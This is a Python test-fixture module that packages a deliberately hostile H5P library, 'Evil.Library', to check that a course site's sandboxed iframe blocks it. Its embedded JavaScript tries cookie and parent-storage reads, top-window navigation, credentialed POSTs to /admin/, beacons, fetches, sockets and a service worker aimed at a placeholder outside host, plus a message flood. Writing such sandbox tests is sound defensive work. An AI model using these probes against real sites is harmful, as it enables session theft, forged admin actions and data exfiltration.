"""Contents for the closed frame: our own type, and one that means harm. Runs inside the server's environment, as people.py.

The hostile library is written here and nowhere else: it tries everything a library could try, and writes down what came of it.
"""

import io
import json
import zipfile
from pathlib import Path

from django.utils import timezone

from courses.content.h5p import own
from courses.content.models import Package
from courses.content.played import actions, checking
from courses.website.frames.access import frame_url


def kept(raw: bytes, name: str = "togloom.h5p") -> Package:
    """A package taken in as an administrator's upload is."""
    package = actions.receive(file=io.BytesIO(raw), name=name, size=len(raw), titles={}, may_install=True, now=timezone.now())
    checking.check(package_id=package.pk)
    package.refresh_from_db()
    assert package.ready, (package.state, package.problems, package.missing)
    return package


def addresses(package: Package) -> dict:
    return {"mn": frame_url(package, language="mn"), "en": frame_url(package, language="en")}


def cards() -> dict:
    return addresses(kept(own.pack()))


def scorm(path: str) -> dict:
    """The SCORM package that lies there."""
    return addresses(kept(Path(path).read_bytes(), "bagts.zip"))


def hostile(*, elsewhere: str, ours: str, stun: str) -> dict:
    """`elsewhere`: a host that must hear nothing; `ours`: the site; `stun`: host and port of a socket that must not either."""
    script = HOSTILE.replace("ELSEWHERE", json.dumps(elsewhere)).replace("OURS", json.dumps(ours))
    files = {
        "h5p.json": json.dumps({
            "title": "Муу санаатай", "language": "mn", "mainLibrary": "Evil.Library", "embedTypes": ["iframe"], "license": "U",
            "preloadedDependencies": [{"machineName": "Evil.Library", "majorVersion": 1, "minorVersion": 0}],
        }),
        "content/content.json": "{}",
        "Evil.Library-1.0/library.json": json.dumps({
            "title": "Evil", "machineName": "Evil.Library", "majorVersion": 1, "minorVersion": 0, "patchVersion": 0,
            "runnable": 1, "preloadedJs": [{"path": "evil.js"}], "preloadedCss": [{"path": "evil.css"}],
        }),
        "Evil.Library-1.0/evil.js": script.replace("STUN", json.dumps(stun)),
        "Evil.Library-1.0/evil.css": f"@import url({elsewhere}/import.css); body {{ background: url({elsewhere}/style.png) }}",
        "Evil.Library-1.0/semantics.json": "[]",
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return addresses(kept(out.getvalue()))


HOSTILE = """
var Evil = {};
window.came = {};
(() => {
  const elsewhere = ELSEWHERE, ours = OURS, stun = STUN, came = window.came;
  const attempt = (name, work) => {
    try { const value = work(); came[name] = "did: " + String(value); } catch (fault) { came[name] = fault.name; }
  };
  const later = (name, work) => {
    came[name] = "waits";
    try { work().then((value) => { came[name] = "did: " + value; }, (fault) => { came[name] = fault.name; }); }
    catch (fault) { came[name] = fault.name; }
  };
  attempt("peer", () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + stun }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  if (window.name === "child") return;
  attempt("cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
  attempt("parent document", () => window.parent.document.cookie);
  attempt("top document", () => window.top.document.title);
  attempt("parent storage", () => window.parent.localStorage.length);
  attempt("fresh window's storage", () => {
    const frame = document.createElement("iframe");
    document.documentElement.append(frame);
    return frame.contentWindow.localStorage.length;
  });
  attempt("database", () => indexedDB.open("ours").onerror);
  attempt("parent location", () => window.parent.location.href);
  attempt("top navigation", () => { window.top.location = elsewhere + "/top"; });
  attempt("parent navigation", () => { window.parent.location.href = elsewhere + "/parent"; });
  attempt("popup", () => window.open(elsewhere + "/popup"));
  attempt("popup of ours", () => window.open(ours + "/admin/"));
  attempt("eval", () => eval("1 + 1"));
  attempt("new Function", () => new Function("return 2")());
  attempt("beacon", () => navigator.sendBeacon(elsewhere + "/beacon", "x"));
  attempt("beacon to us", () => navigator.sendBeacon(ours + "/admin/", "x"));
  later("fetch", () => fetch(elsewhere + "/fetch", { mode: "no-cors" }));
  later("fetch to us", () => fetch(ours + "/admin/", { method: "POST", credentials: "include", mode: "no-cors", body: "a=b" }));
  later("fetch of my page", () => fetch(ours + "/minii/", { credentials: "include" }));
  later("import", () => import(elsewhere + "/module.js"));
  later("import from us", () => import(ours + "/static/js/play.js"));
  for (const [name, host] of [["xhr", elsewhere], ["xhr to us", ours]]) {
    later(name, () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("POST", host + "/admin/");
      request.withCredentials = true;
      request.onload = () => resolve(request.status);
      request.onerror = () => reject(new DOMException("", "NetworkError"));
      request.send("a=b");
    }));
  }
  const element = (name, properties) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) made.setAttribute(key, value);
    document.documentElement.append(made);
    return made;
  };
  for (const [name, tag, properties] of [
    ["image", "img", { src: elsewhere + "/image.png" }], ["image of ours", "img", { src: ours + "/media/x.png" }],
    ["script", "script", { src: elsewhere + "/script.js" }], ["script of ours", "script", { src: ours + "/robots.txt" }],
    ["style", "link", { rel: "stylesheet", href: elsewhere + "/style.css" }],
    ["frame", "iframe", { src: elsewhere + "/frame" }],
    ["frame of ours", "iframe", { src: ours + "/admin/" }], ["object", "object", { data: elsewhere + "/object" }],
    ["film", "video", { src: elsewhere + "/film.mp4" }],
    ["prefetch", "link", { rel: "prefetch", href: elsewhere + "/prefetch" }],
    ["preload", "link", { rel: "preload", as: "script", href: elsewhere + "/preload" }],
    ["manifest", "link", { rel: "manifest", href: elsewhere + "/manifest" }], ["base", "base", { href: elsewhere + "/" }],
  ]) {
    came[name] = "waits";
    const made = element(tag, properties);
    made.addEventListener("load", () => { came[name] = "did: load"; });
    made.addEventListener("error", () => { came[name] = "error"; });
  }
  attempt("inline script", () => {
    const made = document.createElement("script");
    made.textContent = "window.inlineRan = true";
    document.documentElement.append(made);
    return window.inlineRan;
  });
  attempt("form", () => {
    const form = element("form", { action: ours + "/admin/", method: "post", target: "_self" });
    form.submit();
  });
  attempt("form elsewhere", () => element("form", { action: elsewhere + "/form", method: "post" }).submit());
  attempt("socket", () => {
    const socket = new WebSocket(elsewhere.replace("http", "ws") + "/socket");
    socket.onopen = () => { came.socket = "did: open"; };
    socket.onerror = () => { came.socket = "error"; };
  });
  attempt("events", () => {
    const events = new EventSource(elsewhere + "/events");
    events.onopen = () => { came.events = "did: open"; };
    events.onerror = () => { came.events = "error"; };
  });
  attempt("worker", () => {
    const worker = new Worker(URL.createObjectURL(new Blob([`postMessage(1); fetch("${elsewhere}/worker")`])));
    worker.onmessage = () => { came.worker = "did: run"; };
    worker.onerror = () => { came.worker = "error"; };
  });
  const mine = document.querySelector("script[src*=assets]").src;
  later("service worker", () => navigator.serviceWorker.register(mine));
  element("iframe", { name: "child", srcdoc: `<script src="${mine}"></${"script"}>` });
  attempt("fresh window's peer", () => {
    const frame = document.createElement("iframe");
    document.documentElement.append(frame);
    return typeof frame.contentWindow.RTCPeerConnection;
  });
  Evil.Library = function () { H5P.EventDispatcher.call(this); };
  Evil.Library.prototype.attach = function ($box) {
    $box.text("evil");
    attempt("flood", () => {
      for (let count = 0; count < 20_000; count += 1) window.parent.postMessage({ type: "ready", count }, "*");
      window.parent.postMessage({ type: "state", data: "x".repeat(5_000_000) }, "*");
    });
    window.done = true;
  };
  Evil.Library.prototype.getCurrentState = () => ({ big: "x".repeat(200_000) });
  window.leave = (address) => { location.href = address; };
})();
"""
